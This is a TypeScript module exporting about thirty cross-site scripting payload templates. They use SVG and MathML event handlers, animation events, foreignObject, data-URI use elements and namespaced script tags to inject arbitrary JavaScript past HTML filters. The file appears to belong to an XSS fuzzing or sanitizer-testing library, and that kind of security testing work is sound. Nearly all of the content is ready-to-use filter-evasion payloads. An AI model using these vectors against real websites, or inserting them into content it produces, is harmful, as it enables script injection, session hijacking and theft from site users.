import type { Payload } from "./payload";

export const VECTOR_GRAPHICS: readonly Payload[] = [
  ({ js }) => `<svg/onload=${js}>`,
  ({ js }) => `<svg onload="${js}"/>`,
  ({ js }) => `<svg><g onload="${js}"></g></svg>`,
  ({ js }) => `<svg><svg onload="${js}"></svg></svg>`,
  ({ js }) => `<svg><animate onbegin="${js}" attributeName=x dur=1s></svg>`,
  ({ js }) => `<svg><animate onend="${js}" attributeName=x dur=1ms></svg>`,
  ({ js }) => `<svg><animate onrepeat="${js}" attributeName=x dur=1ms repeatCount=2></svg>`,
  ({ js }) => `<svg><set onbegin="${js}" attributeName=x></svg>`,
  ({ js }) => `<svg><animateTransform onbegin="${js}" attributeName=transform></svg>`,
  ({ js }) => `<svg><animateMotion onbegin="${js}" dur=1s><mpath/></animateMotion></svg>`,
  ({ js }) => `<svg><image href=x onerror="${js}"/></svg>`,
  ({ js }) => `<svg><image xlink:href=x onerror="${js}"/></svg>`,
  ({ js }) => `<svg><image href="data:," onload="${js}" onerror="${js}"/></svg>`,
  ({ js }) => `<svg><feImage href=x onerror="${js}" onload="${js}"/></svg><svg onload=${js}>`,
  ({ js }) => `<svg><style onload="${js}">*{}</style></svg>`,
  ({ js }) => `<svg><a href=# onfocus="${js}" tabindex=0 autofocus><text y=20>x</text></a></svg>`,
  ({ js }) => `<svg><rect onclick="${js}"/><a onclick="${js}" href=#><text y=20>x</text></a></svg>`,
  ({ js }) => `<svg><discard onbegin="${js}"/></svg>`,
  ({ js }) => `<svg><foreignObject><body onload="${js}"></foreignObject></svg>`,
  ({ js }) =>
    `<svg><foreignObject><iframe srcdoc="<script>parent.${js}</script>"></iframe></foreignObject></svg>`,
  ({ js }) =>
    `<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>${js}</handler><script>${js}</script></svg>`,
  ({ js }) =>
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${js}'/>#x"/></svg>`,
  ({ js }) =>
    `<svg xmlns:x=http://www.w3.org/1999/xhtml><x:script>${js}</x:script><script>${js}</script></svg>`,
  ({ js }) => `<svg><metadata><img src=x onerror=${js}></metadata></svg>`,
  ({ js }) => `<svg><switch><g systemLanguage=xx/><g><image href=x onerror=${js} /></g></switch></svg>`,
  ({ js }) => `<svg><title><script>${js}</script></title></svg>`,
  ({ js }) => `<svg id=x tabindex=1 autofocus onfocus=${js}></svg>`,
  ({ js }) =>
    `<math onclick=${js}>x</math><math><mi//xlink:href="data:x,<script>${js}</script>"></math><script>${js}</script>`,
  ({ js }) => `<math tabindex=0 autofocus onfocus=${js}>x</math>`,
  ({ js }) => `<math><mi tabindex=0 autofocus onfocus=${js}>x</mi></math>`,
  ({ js }) =>
    `<math><semantics><annotation-xml encoding=text/html><svg onload=${js}></annotation-xml></semantics></math>`,
];
